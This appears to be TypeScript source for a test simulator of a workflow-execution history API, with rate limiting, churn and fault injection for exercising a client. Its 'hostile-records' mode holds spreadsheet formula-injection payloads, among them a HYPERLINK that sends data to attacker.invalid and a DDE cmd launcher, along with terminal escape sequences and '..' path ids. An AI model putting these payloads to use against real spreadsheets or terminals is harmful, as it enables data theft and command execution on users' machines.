/**
 * The simulator's HTTP server, on node:http directly (the hot path serves thousands of pages a
 * second). Query validation comes from the core (`ExecutionQuery.fromUrlParams`), so the simulator and
 * the client agree on what a valid query is.
 */
import * as Http from "node:http"
import type { AddressInfo } from "node:net"
import { fromUrlParams, selection, toUrlParams } from "@taskhistory/core/ExecutionQuery"
import type { InvalidInput } from "@taskhistory/core/TaskHistoryError"
import { PAGE_SIZE } from "@taskhistory/core/WorkflowExecution"
import { Either } from "effect"
import { ByteWriter } from "./bytes.js"
import { Dataset, type InsertSpec, type RawRecord, type StatusName } from "./dataset.js"
import { applyKnobs, type FaultMode, type Knobs, type Resolved, type SimulatorKnobs } from "./options.js"
import { makeRng, type Rng } from "./random.js"
import { SlidingWindow, WindowMax } from "./slidingWindow.js"

/** Counters of a running simulator. */
export interface Stats {
  /** API requests received (both origins), whatever their answer. */
  readonly requests: number
  /** API requests by route. */
  readonly byRoute: {
    readonly list: number
    readonly get: number
    readonly step: number
    readonly replay: number
    readonly other: number
  }
  /** API answers by HTTP status. */
  readonly byStatus: Readonly<Record<string, number>>
  /** 429 answers (rate limit and `429-no-apply` replay faults). */
  readonly rateLimited: number
  /** Requests let through by the rate limiter (authenticated API requests not answered 429 by it). */
  readonly accepted: number
  /** Largest number of accepted requests seen in any window of `windowMs`. */
  readonly maxInWindow: number
  /** The window of `maxInWindow`: the rate limit's, or 1 second without a rate limit. */
  readonly windowMs: number
  /** Replay requests per original execution id (faulted ones included). */
  readonly replays: Readonly<Record<string, number>>
  /** New executions created by replays. */
  readonly replaysApplied: number
  /** Faults injected. */
  readonly faults: {
    readonly errors: number
    readonly resets: number
    readonly slow: number
    readonly html: number
    readonly failNext: number
    readonly replay: number
    /** Requests answered by a hostile-server mode (`fault`). */
    readonly hostile: number
  }
  /** Requests received by the foreign `nextLink` origin. */
  readonly foreignRequests: number
  /** Headers of each request received by the foreign origin (names lower-cased; last 1,000). */
  readonly foreignHeaders: ReadonlyArray<Readonly<Record<string, string>>>
  /** Executions inserted, expired and revealed by churn and helpers. */
  readonly inserted: number
  readonly expired: number
  readonly revealed: number
  /** Visible and hidden (late, not yet visible) executions now. */
  readonly visible: number
  readonly hidden: number
  /**
   * Largest number of API requests received and not answered yet at one moment: how many
   * requests a client keeps going (with `latency`, concurrency shows here).
   */
  readonly maxInFlight: number
}

/** One API request as the simulator received it (see `arrivals`). */
export interface Arrival {
  /** When it arrived (ms, the simulator's clock). */
  readonly at: number
  readonly route: "list" | "get" | "step" | "replay" | "other"
  /** The status it was answered with (429 when the rate limit refused it). */
  readonly status: number
}

/** Arrivals kept (the most recent). */
const MAX_ARRIVALS = 200_000

type Route =
  | { readonly kind: "list"; readonly projectId: string }
  | { readonly kind: "get"; readonly projectId: string; readonly id: string }
  | { readonly kind: "step"; readonly projectId: string; readonly id: string; readonly stepId: string }
  | { readonly kind: "replay"; readonly projectId: string; readonly id: string }

/** Scratch space for rendering pages (requests are handled one at a time). */
const writer = new ByteWriter()

interface Reply {
  readonly status: number
  readonly body: string | Buffer
  readonly headers?: Record<string, string> | undefined
  readonly reset?: boolean | undefined
}

const json = (status: number, value: unknown, headers?: Record<string, string>): Reply => ({
  status,
  body: JSON.stringify(value),
  headers
})

const errorBody = (status: number, error: string, message: string, extra?: Record<string, unknown>) =>
  json(status, { statusCode: status, error, message, ...extra })

const HTML_502 =
  "<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head><body><center><h1>502 Bad Gateway</h1></center><hr><center>nginx</center></body></html>\n"

const listen = (server: Http.Server, port: number, host: string): Promise<AddressInfo> =>
  new Promise((resolve, reject) => {
    server.once("error", reject)
    server.listen(port, host, () => {
      server.off("error", reject)
      resolve(server.address() as AddressInfo)
    })
  })

const closeServer = (server: Http.Server): Promise<void> =>
  new Promise((resolve) => {
    server.close(() => resolve())
    server.closeAllConnections()
  })

const formatHost = (host: string) => (host.includes(":") ? `[${host}]` : host)

export class SimulatorServer {
  url = ""
  foreignUrl: string | undefined
  readonly projectId: string
  readonly apiKey: string
  dataset!: Dataset
  knobs!: Knobs
  private readonly server: Http.Server
  private foreign: Http.Server | undefined
  private readonly bearer: string
  private readonly nowMs: number
  private readonly clock0: number
  private dice!: Rng
  private limiter: SlidingWindow | undefined
  private windowMax!: WindowMax
  private lastChurnAt = 0
  private insertCarry = 0
  private expireCarry = 0
  private counters!: {
    requests: number
    byRoute: { list: number; get: number; step: number; replay: number; other: number }
    byStatus: Record<string, number>
    rateLimited: number
    accepted: number
    replays: Record<string, number>
    replaysApplied: number
    faults: {
      errors: number
      resets: number
      slow: number
      html: number
      failNext: number
      replay: number
      hostile: number
    }
    foreignRequests: number
    foreignHeaders: Array<Record<string, string>>
    inserted: number
    expired: number
    revealed: number
    inFlight: number
    maxInFlight: number
  }
  private arrivalLog: Array<Arrival> = []
  private timers = new Set<NodeJS.Timeout>()

  private constructor(
    private readonly options: Resolved,
    private readonly clock: () => number
  ) {
    this.projectId = options.projectId
    this.apiKey = options.apiKey
    this.bearer = `Bearer ${options.apiKey}`
    this.clock0 = clock()
    this.nowMs = options.nowMs ?? Date.now()
    this.server = Http.createServer({ keepAlive: true }, (req, res) => this.onRequest(req, res, false))
    this.server.keepAliveTimeout = 30_000
    this.reset()
  }

  /** Starts the server (and the foreign origin when configured). */
  static async start(options: Resolved, clock: () => number): Promise<SimulatorServer> {
    const sim = new SimulatorServer(options, clock)
    const address = await listen(sim.server, options.port, options.host)
    sim.url = `http://${formatHost(options.host)}:${address.port}`
    if (options.nextLinkOrigin !== undefined) {
      const foreign = Http.createServer({ keepAlive: true }, (req, res) => sim.onRequest(req, res, true))
      try {
        const fa = await listen(foreign, options.nextLinkOrigin.port, options.host)
        sim.foreign = foreign
        sim.foreignUrl = `http://${formatHost(options.nextLinkOrigin.host ?? options.host)}:${fa.port}`
      } catch (error) {
        await closeServer(sim.server)
        throw error
      }
    }
    return sim
  }

  /** Stops both servers and drops open connections. */
  async close(): Promise<void> {
    for (const t of this.timers) clearTimeout(t)
    this.timers.clear()
    await Promise.all([
      closeServer(this.server),
      this.foreign ? closeServer(this.foreign) : Promise.resolve()
    ])
  }

  /** The simulator's current time: `now` plus the time elapsed on its clock. */
  serverNow(): number {
    return this.nowMs + (this.clock() - this.clock0)
  }

  /** Regenerates the dataset from the options, restores the initial knobs and clears the counters. */
  reset(): void {
    const o = this.options
    this.dataset = new Dataset({
      records: o.records,
      seed: o.seed,
      projectId: o.projectId,
      nowMs: this.nowMs,
      spanDays: o.spanDays,
      lateArrivals: o.lateArrivals,
      sameStartDate: o.sameStartDate,
      malformed: o.knobs.malformed
    })
    this.dice = makeRng(o.seed ^ 0xfa17)
    this.setKnobs(o.knobs)
    this.lastChurnAt = this.clock()
    this.insertCarry = 0
    this.expireCarry = 0
    this.counters = {
      requests: 0,
      byRoute: { list: 0, get: 0, step: 0, replay: 0, other: 0 },
      byStatus: {},
      rateLimited: 0,
      accepted: 0,
      replays: {},
      replaysApplied: 0,
      faults: { errors: 0, resets: 0, slow: 0, html: 0, failNext: 0, replay: 0, hostile: 0 },
      foreignRequests: 0,
      foreignHeaders: [],
      inserted: 0,
      expired: 0,
      revealed: 0,
      inFlight: 0,
      maxInFlight: 0
    }
    this.arrivalLog = []
  }

  private setKnobs(knobs: Knobs): void {
    const previous = this.knobs as Knobs | undefined
    this.knobs = knobs
    const sameLimit =
      previous !== undefined &&
      previous.rateLimit?.limit === knobs.rateLimit?.limit &&
      previous.rateLimit?.windowMs === knobs.rateLimit?.windowMs
    if (!sameLimit) {
      this.limiter = knobs.rateLimit
        ? new SlidingWindow(knobs.rateLimit.limit, knobs.rateLimit.windowMs)
        : undefined
      this.windowMax = new WindowMax(knobs.rateLimit?.windowMs ?? 1000)
    }
  }

  /** Changes knobs at runtime. `churn.lateArrivals` and `churn.sameStartDate` add executions now. */
  configure(patch: SimulatorKnobs): Either.Either<Knobs, InvalidInput> {
    const next = applyKnobs(this.knobs, patch)
    if (Either.isLeft(next)) return next
    const previousMalformed = this.knobs.malformed
    this.setKnobs(next.right)
    if (patch.malformed !== undefined || next.right.malformed !== previousMalformed) {
      this.dataset.setMalformed(next.right.malformed)
    }
    const churn = patch.churn
    if (churn?.lateArrivals !== undefined && churn.lateArrivals > 0) {
      const now = this.serverNow()
      const span = this.options.spanDays * 86_400_000
      const specs: Array<InsertSpec> = []
      for (let k = 0; k < churn.lateArrivals; k++) {
        specs.push({
          dateStartedMs: Math.floor(now - span + (span - 7_200_000) * ((k + 0.5) / churn.lateArrivals)),
          status: k % 7 === 3 ? "FAILED" : "SUCCEEDED",
          hidden: true
        })
      }
      this.dataset.insert(specs, now)
    }
    if (churn?.sameStartDate !== undefined) {
      const raw = churn.sameStartDate.date
      const at = raw instanceof Date ? raw.getTime() : typeof raw === "number" ? raw : Date.parse(raw)
      if (Number.isFinite(at)) {
        const specs = Array.from({ length: churn.sameStartDate.count }, () => ({ dateStartedMs: at }))
        this.counters.inserted += this.dataset.insert(specs, this.serverNow()).length
      }
    }
    return next
  }

  stats(): Stats {
    const c = this.counters
    return {
      requests: c.requests,
      byRoute: { ...c.byRoute },
      byStatus: { ...c.byStatus },
      rateLimited: c.rateLimited,
      accepted: c.accepted,
      maxInWindow: this.windowMax.max,
      windowMs: this.windowMax.windowMs,
      replays: { ...c.replays },
      replaysApplied: c.replaysApplied,
      faults: { ...c.faults },
      foreignRequests: c.foreignRequests,
      foreignHeaders: c.foreignHeaders.map((h) => ({ ...h })),
      inserted: c.inserted,
      expired: c.expired,
      revealed: c.revealed,
      visible: this.dataset.size,
      hidden: this.dataset.hiddenQueue.length,
      maxInFlight: c.maxInFlight
    }
  }

  /** The API requests received (the last 200,000), oldest first. */
  arrivals(): Array<Arrival> {
    return this.arrivalLog.slice()
  }

  /** Visible executions as served, ascending by (dateStarted, id). */
  records(): Array<RawRecord> {
    const d = this.dataset
    const out: Array<RawRecord> = []
    for (let i = d.lo; i < d.hi; i++) out.push(d.record(d.order[i]!))
    return out
  }

  /** Late arrivals not yet visible, in the order they will appear. */
  hiddenRecords(): Array<RawRecord> {
    return this.dataset.hiddenQueue.map((s) => this.dataset.record(s))
  }

  insert(specs: ReadonlyArray<InsertSpec>): Array<RawRecord> {
    const created = this.dataset.insert(specs, this.serverNow())
    this.counters.inserted += created.length
    return created.map((s) => this.dataset.record(s))
  }

  expireOldest(n: number): Array<string> {
    const gone = this.dataset.expireOldest(n)
    this.counters.expired += gone.length
    return gone.map((s) => this.dataset.id(s))
  }

  expireIds(ids: ReadonlyArray<string>): Array<string> {
    const serials: Array<number> = []
    for (const id of ids) {
      const s = this.dataset.serialOf(id)
      if (s !== undefined) serials.push(s)
    }
    const gone = this.dataset.expire(serials)
    this.counters.expired += gone.length
    return gone.map((s) => this.dataset.id(s))
  }

  reveal(n: number | undefined): Array<RawRecord> {
    const shown = this.dataset.reveal(n)
    this.counters.revealed += shown.length
    return shown.map((s) => this.dataset.record(s))
  }

  /**
   * The step executions of a visible execution as the API serves them: each summary (as in
   * `stepExecutions`) with the step's input and output; undefined for an unknown id. Sends nothing
   * and counts nothing.
   */
  stepsOf(id: string): Array<{ readonly summary: RawRecord; readonly detail: RawRecord }> | undefined {
    const s = this.visibleSerial(id)
    if (s === undefined) return undefined
    return this.dataset.steps(s).map((summary) => ({
      summary,
      detail: this.dataset.step(s, summary.id as string)!
    }))
  }

  setStatus(id: string, status: StatusName): boolean {
    const s = this.dataset.serialOf(id)
    if (s === undefined || !this.dataset.isVisible(s)) return false
    this.dataset.setStatus(s, status, this.serverNow())
    return true
  }

  // ---------------------------------------------------------------------------------------------
  // HTTP

  private onRequest(req: Http.IncomingMessage, res: Http.ServerResponse, foreign: boolean): void {
    const url = req.url ?? "/"
    const q = url.indexOf("?")
    let path = q < 0 ? url : url.slice(0, q)
    const search = q < 0 ? "" : url.slice(q + 1)
    if (!foreign && path.startsWith("/__admin/")) {
      this.admin(req, res, path)
      return
    }
    req.resume()
    const c = this.counters
    c.requests++
    c.inFlight++
    if (c.inFlight > c.maxInFlight) c.maxInFlight = c.inFlight
    const at = this.clock()
    let kind: Arrival["route"] = "other"
    if (foreign) {
      c.foreignRequests++
      const seen: Record<string, string> = {}
      for (const [name, value] of Object.entries(req.headers)) {
        if (value !== undefined) seen[name] = Array.isArray(value) ? value.join(", ") : value
      }
      c.foreignHeaders.push(seen)
      if (c.foreignHeaders.length > 1000) c.foreignHeaders.shift()
    }
    if (path.length > 1 && path.endsWith("/")) path = path.slice(0, -1)
    const route = this.route(path)
    if (route === undefined) {
      c.byRoute.other++
      this.answer(
        { at, route: kind },
        res,
        errorBody(404, "Not Found", `no route for ${req.method ?? "GET"} ${path}`),
        0
      )
      return
    }
    c.byRoute[route.kind]++
    kind = route.kind
    const method = route.kind === "replay" ? "POST" : "GET"
    if (req.method !== method && !(method === "GET" && req.method === "HEAD")) {
      this.answer(
        { at, route: kind },
        res,
        errorBody(405, "Method Not Allowed", `use ${method}`, undefined),
        0
      )
      return
    }
    if (req.headers.authorization !== this.bearer) {
      this.answer(
        { at, route: kind },
        res,
        errorBody(401, "Unauthorized", "missing or invalid bearer token"),
        0
      )
      return
    }
    if (route.projectId !== this.projectId) {
      this.answer(
        { at, route: kind },
        res,
        errorBody(404, "Not Found", `project ${route.projectId} not found`),
        0
      )
      return
    }
    const now = this.clock()
    if (this.limiter !== undefined) {
      const waitMs = this.limiter.tryAcquire(now)
      if (waitMs > 0) {
        c.rateLimited++
        this.answer({ at, route: kind }, res, this.tooManyRequests(now, waitMs), 0)
        return
      }
    }
    c.accepted++
    this.windowMax.record(now)
    if (this.hostile(req, res)) {
      c.faults.hostile++
      return
    }
    const k = this.knobs
    if (k.faults.failNext > 0) {
      this.knobs = { ...k, faults: { ...k.faults, failNext: k.faults.failNext - 1 } }
      c.faults.failNext++
      this.answer(
        { at, route: kind },
        res,
        errorBody(503, "Service Unavailable", "injected failure (failNext)"),
        this.latency()
      )
      return
    }
    const f = k.faults
    if (f.errorRate > 0 && this.dice.next() < f.errorRate) {
      c.faults.errors++
      const status = [500, 502, 503][Math.floor(this.dice.next() * 3)]!
      this.answer(
        { at, route: kind },
        res,
        errorBody(status, "Server Error", "injected server error"),
        this.latency()
      )
      return
    }
    if (f.htmlRate > 0 && this.dice.next() < f.htmlRate) {
      c.faults.html++
      this.answer(
        { at, route: kind },
        res,
        { status: 502, body: HTML_502, headers: { "content-type": "text/html; charset=utf-8" } },
        this.latency()
      )
      return
    }
    const reset = f.resetRate > 0 && this.dice.next() < f.resetRate
    const slow = f.slowRate > 0 && this.dice.next() < f.slowRate
    if (reset) c.faults.resets++
    if (slow) c.faults.slow++
    this.applyTimeChurn()
    const reply = this.dispatch(route, search)
    this.answer(
      { at, route: kind },
      res,
      reset ? { ...reply, reset: true } : reply,
      this.latency() + (slow ? k.slowMs : 0)
    )
  }

  private route(path: string): Route | undefined {
    const segs = path.split("/")
    if (segs[1] !== "projects" || segs[3] !== "task-history" || segs[4] !== "workflow-executions")
      return undefined
    const projectId = segs[2] ?? ""
    if (segs.length === 5) return { kind: "list", projectId }
    const id = segs[5] ?? ""
    if (segs.length === 6) return { kind: "get", projectId, id }
    if (segs.length === 7 && segs[6] === "replay") return { kind: "replay", projectId, id }
    if (segs.length === 8 && segs[6] === "step-executions")
      return { kind: "step", projectId, id, stepId: segs[7] ?? "" }
    return undefined
  }

  private tooManyRequests(now: number, waitMs: number): Reply {
    const retryAfter =
      this.knobs.retryAfterFormat === "date"
        ? new Date(Math.ceil((now + waitMs) / 1000) * 1000).toUTCString()
        : String(Math.max(1, Math.ceil(waitMs / 1000)))
    return {
      ...errorBody(429, "Too Many Requests", "rate limit exceeded"),
      headers: { "retry-after": retryAfter }
    }
  }

  private latency(): number {
    const l = this.knobs.latency
    if (l === undefined) return 0
    return l.minMs === l.maxMs ? l.minMs : l.minMs + Math.floor(this.dice.next() * (l.maxMs - l.minMs + 1))
  }

  private applyTimeChurn(): void {
    const ch = this.knobs.churn
    const t = this.clock()
    const dt = Math.max(0, t - this.lastChurnAt) / 1000
    this.lastChurnAt = t
    if (ch.insertPerSecond > 0) {
      this.insertCarry += ch.insertPerSecond * dt
      const n = Math.floor(this.insertCarry)
      this.insertCarry -= n
      if (n > 0) this.insert(Array.from({ length: n }, () => ({})))
    }
    if (ch.expirePerSecond > 0) {
      this.expireCarry += ch.expirePerSecond * dt
      const n = Math.floor(this.expireCarry)
      this.expireCarry -= n
      if (n > 0) this.expireOldest(n)
    }
  }

  private dispatch(route: Route, search: string): Reply {
    switch (route.kind) {
      case "list":
        return this.list(search)
      case "get": {
        const s = this.visibleSerial(route.id)
        if (s === undefined) return errorBody(404, "Not Found", `workflow execution ${route.id} not found`)
        const steps = this.dataset.steps(s)
        return json(200, {
          ...this.dataset.record(s),
          stepExecutions: this.knobs.fault.has("malformed-steps")
            ? [...steps, { stepId: "malformed", status: "FAILED" }, "not a step execution"]
            : steps
        })
      }
      case "step": {
        const s = this.visibleSerial(route.id)
        const step = s === undefined ? undefined : this.dataset.step(s, route.stepId)
        if (step === undefined) {
          return errorBody(404, "Not Found", `step execution ${route.stepId} of ${route.id} not found`)
        }
        return json(200, step)
      }
      case "replay":
        return this.replay(route.id)
    }
  }

  private visibleSerial(id: string): number | undefined {
    const s = this.dataset.serialOf(id)
    return s !== undefined && this.dataset.isVisible(s) ? s : undefined
  }

  private replay(id: string): Reply {
    const s = this.visibleSerial(id)
    if (s === undefined) return errorBody(404, "Not Found", `workflow execution ${id} not found`)
    const c = this.counters
    c.replays[id] = (c.replays[id] ?? 0) + 1
    const k = this.knobs
    const fault = k.replayFault !== undefined && k.replayFaultTimes > 0 ? k.replayFault : undefined
    if (fault !== undefined) {
      this.knobs = { ...k, replayFaultTimes: k.replayFaultTimes - 1 }
      c.faults.replay++
      if (fault === "429-no-apply") {
        c.rateLimited++
        return this.tooManyRequests(this.clock(), 1000)
      }
    }
    const created = this.dataset.replay(s, this.serverNow())
    c.replaysApplied++
    const reply = json(201, this.dataset.record(created))
    if (fault === "apply-then-503")
      return errorBody(503, "Service Unavailable", "injected failure after replay")
    if (fault === "apply-then-reset") return { ...reply, reset: true }
    return reply
  }

  private list(search: string): Reply {
    const params = new URLSearchParams(search)
    const query = fromUrlParams(params)
    if (Either.isLeft(query)) {
      const e = query.left
      return errorBody(400, "Bad Request", e.message, { field: e.field, value: e.value })
    }
    const modes = this.knobs.fault
    const rawOffset = modes.has("ignore-offset") ? null : params.get("offset")
    let offset = 0
    if (rawOffset !== null) {
      offset = /^\d+$/.test(rawOffset) ? Number(rawOffset) : Number.NaN
      if (!Number.isSafeInteger(offset)) {
        return errorBody(
          400,
          "Bad Request",
          `invalid offset ${JSON.stringify(rawOffset)}: expected a non-negative integer`,
          {
            field: "offset",
            value: rawOffset
          }
        )
      }
    }
    const ch = this.knobs.churn
    if (ch.insertPerRequest > 0) this.insert(Array.from({ length: ch.insertPerRequest }, () => ({})))
    if (ch.expirePerRequest > 0) this.expireOldest(ch.expirePerRequest)
    if (ch.revealPerRequest > 0 && this.dataset.hiddenQueue.length > 0) this.reveal(ch.revealPerRequest)
    const q = query.right
    const ignoreDates = modes.has("ignore-dates")
    const matches = this.dataset.matches({
      ...selection(q),
      afterMs: q.afterDate === undefined || ignoreDates ? undefined : Date.parse(q.afterDate),
      beforeMs: q.beforeDate === undefined || ignoreDates ? undefined : Date.parse(q.beforeDate),
      inclusive: this.knobs.inclusiveDates
    })
    const size = matches.size
    const desc = q.sortBy !== "ASC"
    const end = Math.min(size, offset + PAGE_SIZE)
    const w = writer
    w.reset()
    w.string(`{"${this.knobs.pageShape}":[`)
    for (let i = offset; i < end; i++) {
      if (i > offset) w.byte(44)
      this.dataset.writeJson(matches.at(desc ? size - 1 - i : i), w)
    }
    let nextLink: string | null = null
    if (end < size) {
      const linkParams = new URLSearchParams(toUrlParams(q) as Array<[string, string]>)
      if (q.sortBy === undefined && this.knobs.nextLinkSortAsc) linkParams.set("sortBy", "ASC")
      // looping-nextlink: every page after the first links back to the one before it
      linkParams.set("offset", String(modes.has("looping-nextlink") && offset > 0 ? offset - PAGE_SIZE : end))
      nextLink = `${this.foreignUrl ?? this.url}/projects/${this.projectId}/task-history/workflow-executions?${linkParams}`
    }
    w.string(`],"nextLink":${JSON.stringify(nextLink)}${this.knobs.includeTotal ? `,"total":${size}` : ""}}`)
    const body = w.take()
    return {
      status: 200,
      body: modes.has("hostile-records") || modes.has("dot-ids") ? this.tamper(body, offset, modes) : body
    }
  }

  /** The page with hostile values written into its records (`hostile-records`, `dot-ids`). */
  private tamper(body: Buffer, offset: number, modes: ReadonlySet<FaultMode>): Buffer {
    const page = JSON.parse(body.toString("utf8")) as Record<string, Array<Record<string, unknown>>>
    const records = page[this.knobs.pageShape] ?? []
    records.forEach((record, i) => {
      if (modes.has("dot-ids") && offset === 0 && i < 2) record.id = i === 0 ? ".." : "."
      if (modes.has("hostile-records")) {
        const formulas = [
          '=HYPERLINK("http://attacker.invalid/?x="&A1,"open")',
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(1,2)"
        ]
        record.workflowId = formulas[i % formulas.length]
        record.userId = `user\u001b]0;pwned title\u0007\u001b[2J\u009b31m-${i}`
        record.integration = "slack\r\u001b[1A\u001b[Kfake line"
      }
    })
    return Buffer.from(JSON.stringify(page))
  }

  /**
   * Answers a request the hostile way when a transport or status `fault` mode is set: true when
   * it did (the request is then left to it).
   */
  private hostile(req: Http.IncomingMessage, res: Http.ServerResponse): boolean {
    const modes = this.knobs.fault
    if (modes.size === 0) return false
    const endless = (announce: boolean) => {
      res.writeHead(200, {
        "content-type": "application/json; charset=utf-8",
        ...(announce ? { "content-length": String(600 * 1024 * 1024) } : {})
      })
      res.write('{"workflowExecutions":[')
      const chunk = Buffer.alloc(64 * 1024, 32)
      let sent = 0
      const pump = () => {
        while (!res.destroyed && (!announce || sent < 600 * 1024 * 1024 - chunk.length)) {
          sent += chunk.length
          if (!res.write(chunk)) {
            res.once("drain", pump)
            return
          }
        }
      }
      pump()
    }
    if (modes.has("slow-headers")) {
      // read, never answered: the connection stays open until the client gives up
      return true
    }
    if (modes.has("endless-body")) {
      endless(false)
      return true
    }
    if (modes.has("huge-page")) {
      endless(true)
      return true
    }
    if (modes.has("stalled-body")) {
      res.writeHead(200, { "content-type": "application/json; charset=utf-8", "content-length": "100000" })
      res.write('{"workflowExecutions":[{"id":"stalled"')
      return true
    }
    if (modes.has("retry-after-garbage") || modes.has("retry-after-huge")) {
      const retryAfter = modes.has("retry-after-huge") ? "999999" : "soon-ish"
      this.deliver(
        res,
        { ...errorBody(429, "Too Many Requests", "slow down"), headers: { "retry-after": retryAfter } },
        0
      )
      return true
    }
    if (modes.has("echo-key")) {
      const auth = req.headers.authorization ?? ""
      this.deliver(
        res,
        errorBody(400, "Bad Request", `unexpected credentials ${auth}`, {
          echo: auth,
          encoded: encodeURIComponent(auth),
          base64: Buffer.from(auth).toString("base64")
        }),
        0
      )
      return true
    }
    if (modes.has("escape-errors")) {
      this.deliver(
        res,
        {
          status: 503,
          body: "maintenance\u001b]0;pwned title\u0007\u001b[2J\u001b[31mRED\u009b0m",
          headers: { "content-type": "text/plain; charset=utf-8" }
        },
        0
      )
      return true
    }
    return false
  }

  /** Answers an API request (recorded as an arrival, counted in flight until sent). */
  private answer(
    arrival: { readonly at: number; readonly route: Arrival["route"] },
    res: Http.ServerResponse,
    reply: Reply,
    delayMs: number
  ): void {
    if (this.arrivalLog.length >= MAX_ARRIVALS) this.arrivalLog.splice(0, MAX_ARRIVALS >> 2)
    this.arrivalLog.push({ at: arrival.at, route: arrival.route, status: reply.status })
    const c = this.counters
    let open = true
    const settle = () => {
      if (open) c.inFlight--
      open = false
    }
    res.once("close", settle)
    this.deliver(res, reply, delayMs, settle)
  }

  private deliver(res: Http.ServerResponse, reply: Reply, delayMs: number, sent?: () => void): void {
    const c = this.counters
    const key = String(reply.status)
    c.byStatus[key] = (c.byStatus[key] ?? 0) + 1
    const send = () => {
      sent?.()
      if (res.destroyed) return
      res.writeHead(reply.status, {
        "content-type": "application/json; charset=utf-8",
        "content-length": typeof reply.body === "string" ? Buffer.byteLength(reply.body) : reply.body.length,
        ...reply.headers
      })
      if (reply.reset === true) {
        const bytes = typeof reply.body === "string" ? Buffer.from(reply.body) : reply.body
        res.write(bytes.subarray(0, bytes.length >> 1), () => res.socket?.destroy())
        return
      }
      res.end(reply.body)
    }
    if (delayMs <= 0) {
      send()
      return
    }
    const timer = setTimeout(() => {
      this.timers.delete(timer)
      send()
    }, delayMs)
    this.timers.add(timer)
  }

  // ---------------------------------------------------------------------------------------------
  // Admin

  private admin(req: Http.IncomingMessage, res: Http.ServerResponse, path: string): void {
    const reply = (status: number, value: unknown) => {
      const body = JSON.stringify(value)
      res.writeHead(status, {
        "content-type": "application/json; charset=utf-8",
        "content-length": Buffer.byteLength(body)
      })
      res.end(body)
    }
    const route = `${req.method} ${path}`
    if (route === "GET /__admin/stats") {
      req.resume()
      reply(200, this.stats())
      return
    }
    if (route === "GET /__admin/config") {
      req.resume()
      reply(200, this.knobsView())
      return
    }
    if (route === "GET /__admin/dataset") {
      req.resume()
      res.writeHead(200, { "content-type": "application/x-ndjson; charset=utf-8" })
      const d = this.dataset
      const serials = Array.from(d.order.subarray(d.lo, d.hi))
      let i = 0
      const pump = () => {
        while (i < serials.length) {
          const lines: Array<string> = []
          const stop = Math.min(serials.length, i + 1000)
          for (; i < stop; i++) lines.push(JSON.stringify(d.record(serials[i]!)))
          if (!res.write(`${lines.join("\n")}\n`)) {
            res.once("drain", pump)
            return
          }
        }
        res.end()
      }
      pump()
      return
    }
    if (route === "POST /__admin/reset") {
      req.resume()
      this.reset()
      reply(200, { ok: true })
      return
    }
    if (route === "POST /__admin/config") {
      const chunks: Array<Buffer> = []
      let size = 0
      req.on("data", (chunk: Buffer) => {
        size += chunk.length
        if (size <= 1_000_000) chunks.push(chunk)
      })
      req.on("end", () => {
        let patch: unknown
        try {
          patch = JSON.parse(Buffer.concat(chunks).toString("utf8"))
        } catch {
          reply(400, { statusCode: 400, error: "Bad Request", message: "the body is not JSON" })
          return
        }
        if (typeof patch !== "object" || patch === null || Array.isArray(patch)) {
          reply(400, { statusCode: 400, error: "Bad Request", message: "expected a JSON object" })
          return
        }
        const result = this.configure(patch as SimulatorKnobs)
        if (Either.isLeft(result)) {
          reply(400, { statusCode: 400, error: "Bad Request", message: result.left.message })
          return
        }
        reply(200, this.knobsView())
      })
      return
    }
    req.resume()
    reply(404, { statusCode: 404, error: "Not Found", message: `no admin route ${route}` })
  }

  /** Knobs as JSON (no infinities). */
  knobsView(): Record<string, unknown> {
    const k = this.knobs
    return {
      ...k,
      rateLimit: k.rateLimit ?? null,
      replayFault: k.replayFault ?? null,
      replayFaultTimes: Number.isFinite(k.replayFaultTimes) ? k.replayFaultTimes : null,
      latency: k.latency ?? null,
      fault: [...k.fault]
    }
  }
}
